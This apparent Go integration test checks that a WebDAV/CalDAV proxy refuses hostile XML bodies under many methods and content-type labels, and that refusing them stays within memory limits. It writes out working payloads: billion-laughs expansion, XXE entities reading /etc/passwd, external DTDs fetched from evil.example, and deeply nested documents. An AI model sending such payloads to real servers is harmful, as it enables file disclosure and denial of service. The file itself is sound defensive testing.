//go:build real

package realtest

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"unicode/utf16"
)

// davMethodsWithXML are those whose body says what to do.
var davMethodsWithXML = []string{"PROPFIND", "PROPPATCH", "REPORT", "SEARCH", "MKCALENDAR", "MKCOL", "ACL", "LOCK", "BIND", "COPY", "DELETE", "POST"}

// hostileXML are bodies that may not reach a server's parser.
func hostileXML() map[string]string {
	const ns = ` xmlns:d="DAV:"`
	propfind := `<d:propfind` + ns + `><d:prop><d:getetag/></d:prop></d:propfind>`
	laughs := `<!DOCTYPE d [<!ENTITY a "ha">`
	for c := 'b'; c < 'n'; c++ {
		laughs += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	utf16s := func(order binary.AppendByteOrder, text string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(text)) {
			b = order.AppendUint16(b, u)
		}
		return string(b)
	}
	return map[string]string{
		"a billion laughs":        laughs + `]><d:propfind` + ns + `><d:prop><d:href>&m;</d:href></d:prop></d:propfind>`,
		"an external entity":      `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d:propfind` + ns + `>&x;</d:propfind>`,
		"a parameter entity":      `<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>` + propfind,
		"an external subset":      `<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">` + propfind,
		"a document type":         `<!DOCTYPE propfind>` + propfind,
		"a document type, later":  "<?xml version=\"1.0\"?>\n<!-- x -->\n<!DOCTYPE d>" + propfind,
		"an entity of nobody's":   `<d:propfind` + ns + `>&nobody;</d:propfind>`,
		"a declaration within":    `<d:propfind` + ns + `><!ENTITY x "y"></d:propfind>`,
		"deep nesting":            strings.Repeat("<d:a"+ns+">", 20000) + strings.Repeat("</d:a>", 20000),
		"deep nesting, unclosed":  strings.Repeat("<a>", 200000),
		"many namespaces":         `<d:propfind` + ns + ` ` + strings.ReplaceAll(manyAttributes(20000), ` a`, ` xmlns:a`) + `/>`,
		"broken UTF-8":            `<d:propfind` + ns + "><d:prop><d:\xff\xfe/></d:prop></d:propfind>",
		"broken UTF-8 in text":    `<d:propfind` + ns + "><d:href>/calendar/\xc0\xaf</d:href></d:propfind>",
		"a surrogate":             `<d:propfind` + ns + "><d:href>\xed\xa0\x80</d:href></d:propfind>",
		"NUL":                     `<d:propfind` + ns + ">\x00</d:propfind>",
		"a control character":     `<d:propfind` + ns + ">&#1;</d:propfind>",
		"UTF-16, little":          utf16s(binary.LittleEndian, "\ufeff"+propfind),
		"UTF-16, big":             utf16s(binary.BigEndian, "\ufeff"+propfind),
		"UTF-16 without a mark":   utf16s(binary.BigEndian, `<?xml version="1.0" encoding="UTF-16"?>`+propfind),
		"UTF-16 as UTF-8":         "\ufeff" + utf16s(binary.LittleEndian, propfind),
		"said to be UTF-16":       `<?xml version="1.0" encoding="UTF-16"?>` + propfind,
		"said to be UTF-7":        `<?xml version="1.0" encoding="UTF-7"?>` + propfind,
		"said to be Latin-1":      `<?xml version="1.0" encoding="ISO-8859-1"?>` + propfind,
		"said to be EBCDIC":       `<?xml version="1.0" encoding="IBM037"?>` + propfind,
		"XML 1.1":                 `<?xml version="1.1"?><d:propfind` + ns + `/>`,
		"a style sheet":           `<?xml-stylesheet href="http://evil.example/x"?>` + propfind,
		"an instruction within":   `<d:propfind` + ns + `><?php x ?></d:propfind>`,
		"two roots":               propfind + propfind,
		"text after the root":     propfind + "x",
		"text alone":              "what is this",
		"unclosed":                `<d:propfind` + ns + `><d:prop>`,
		"closed wrongly":          `<d:propfind` + ns + `><d:prop></d:propfind></d:prop>`,
		"an attribute twice":      `<d:propfind` + ns + ` a="1" a="2"/>`,
		"a bare ampersand":        `<d:propfind` + ns + `>a & b</d:propfind>`,
		"< in an attribute":       `<d:propfind` + ns + ` a="<"/>`,
		"an unquoted attribute":   `<d:propfind` + ns + ` a=b/>`,
		"]]> in text":             `<d:propfind` + ns + `>]]></d:propfind>`,
		"CDATA unclosed":          `<d:propfind` + ns + `><![CDATA[x</d:propfind>`,
		"a comment unclosed":      `<d:propfind` + ns + `><!-- </d:propfind>`,
		"-- in a comment":         `<d:propfind` + ns + `><!-- -- --></d:propfind>`,
		"compressed":              zipped(propfind),
		"JSON":                    `{"a":1}`,
		"a form":                  "a=b",
		"prefixed DAV: elsewhere": `<d:propfind xmlns:d="DAV:" xmlns:d="x"/>`,
	}
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d="x"`, i)
	}
	return b.String()
}

func zipped(text string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	io.WriteString(z, text)
	z.Close()
	return b.String()
}

// TestDAVHostileXML: no such body reaches a server, by whatever method and
// however it is labelled, and none takes memory to refuse.
func TestDAVHostileXML(t *testing.T) {
	up := newDAVRecorder(t, multistatus)
	s := up.server().through(t)
	if a := s.raw(t, "PROPFIND", "/calendar/alice/", []string{"Content-Type: application/xml", "Depth: 0"}, `<?xml version="1.0" encoding="utf-8"?><d:propfind xmlns:d="DAV:"><d:prop/></d:propfind>`); a.status != http.StatusMultiStatus {
		t.Fatalf("a good body = %d %.300q, want it passed on", a.status, a.body)
	}
	up.heard()
	before := s.peak(t)
	refused := func(what, method string, lines []string, body string) bool {
		got, heard := s.raw(t, method, "/calendar/alice/ward/", lines, body), up.heard()
		if got.status/100 != 4 || len(heard) > 0 {
			t.Errorf("%s by %s, %q = %d and reached the server %d times, want it refused: %.80q", what, method, lines, got.status, len(heard), body)
			return false
		}
		return true
	}
	for what, body := range hostileXML() {
		xml := []string{"Content-Type: application/xml"}
		good := refused(what, "PROPFIND", nil, body) && refused(what, "REPORT", []string{"Content-Type: text/plain"}, body)
		for _, method := range davMethodsWithXML {
			good = good && refused(what, method, xml, body) // once is enough to know
		}
	}
	propfind := `<d:propfind xmlns:d="DAV:"><d:prop><d:getetag/></d:prop></d:propfind>`
	for what, lines := range map[string][]string{
		"labelled UTF-16":       {"Content-Type: application/xml; charset=utf-16"},
		"labelled UTF-7":        {"Content-Type: text/xml; charset=\"utf-7\""},
		"labelled Latin-1":      {"Content-Type: text/xml; charset=iso-8859-1"},
		"labelled as gzip":      {"Content-Type: application/xml", "Content-Encoding: gzip"},
		"labelled as gzip, too": {"Content-Type: application/xml", "Content-Encoding: identity", "Content-Encoding: gzip"},
		"labelled as br":        {"Content-Type: application/xml", "Content-Encoding: identity, br"},
	} {
		refused(what, "PROPFIND", lines, propfind)
	}
	// A POST is read as XML by servers that find it anywhere in the label.
	doctype := `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><o:share xmlns:o="http://owncloud.org/ns">&y;</o:share>`
	for _, kind := range [][]string{
		{"text/plain; a=application/xml"}, {"text/plain, application/xml"}, {"application/xml; charset=utf-8; x"}, {"APPLICATION/XML"}, {"text/xml;"}, {" application/xml"},
		{"text/plain", "application/xml"}, {"application/xml", "text/plain"}, {"text/calendar; x=\"text/xml\""}, {"image/svg+xml"}, {""}, {"application/xmlish"},
	} {
		var lines []string
		for _, k := range kind {
			lines = append(lines, "Content-Type: "+k)
		}
		refused("a document type", "POST", lines, doctype)
	}
	if grown := s.peak(t) - before; grown > 256<<20 {
		t.Errorf("refusing took %d MiB of memory, want 256 MiB at most", grown>>20)
	}
}

// TestDAVLargeXML: a request's XML of 50 MB is refused with memory for a part of
// it alone, whether its length is said or not.
func TestDAVLargeXML(t *testing.T) {
	up := newDAVRecorder(t, multistatus)
	d := up.server()
	d.fast = true
	s := d.through(t)
	before := s.peak(t)
	for _, said := range []bool{true, false} {
		for _, method := range []string{"PROPFIND", "REPORT", "PROPPATCH", "LOCK", "MKCOL", "POST", "FOO"} {
			if status := s.sendXML(t, method, 50<<20, said); status != http.StatusRequestEntityTooLarge && status != 0 {
				t.Errorf("%s with 50 MB of XML (length said: %t) = %d, want 413", method, said, status)
			}
			if len(up.heard()) != 0 {
				t.Errorf("%s with 50 MB of XML (length said: %t): the server was asked, want it unasked", method, said)
			}
		}
	}
	grown := s.peak(t) - before
	t.Logf("refusing took %d MiB at most", grown>>20)
	if grown > 100<<20 {
		t.Errorf("refusing 50 MB of XML took %d MiB, want 100 MiB at most", grown>>20)
	}
}

// sendXML sends XML of a size and returns the answer's status; 0 if the
// connection was closed meanwhile.
func (s *davSite) sendXML(t *testing.T, method string, size int64, said bool) int {
	t.Helper()
	const head, tail = `<d:propfind xmlns:d="DAV:"><d:prop>`, `</d:prop></d:propfind>`
	body := io.MultiReader(strings.NewReader(head), io.LimitReader(repeating("<d:getetag/>"), size/12*12), strings.NewReader(tail))
	r, err := http.NewRequest(method, s.URL+"/calendar/alice/ward/", body)
	if err != nil {
		t.Fatal(err)
	}
	r.SetBasicAuth(s.way.user, s.way.secret)
	r.Header.Set("Content-Type", "application/xml")
	if r.ContentLength = -1; said {
		r.ContentLength = int64(len(head)+len(tail)) + size/12*12
	}
	resp, err := (&http.Transport{DisableKeepAlives: true}).RoundTrip(r)
	switch {
	case err == nil:
		resp.Body.Close()
		return resp.StatusCode
	case strings.Contains(err.Error(), "reset") || strings.Contains(err.Error(), "broken pipe"):
		return 0
	}
	t.Fatalf("%s with large XML: %v", method, err)
	return 0
}

// repeating reads a text again and again.
type repeating string

func (r repeating) Read(p []byte) (n int, err error) {
	for n < len(p) {
		n += copy(p[n:], r)
	}
	return n, nil
}
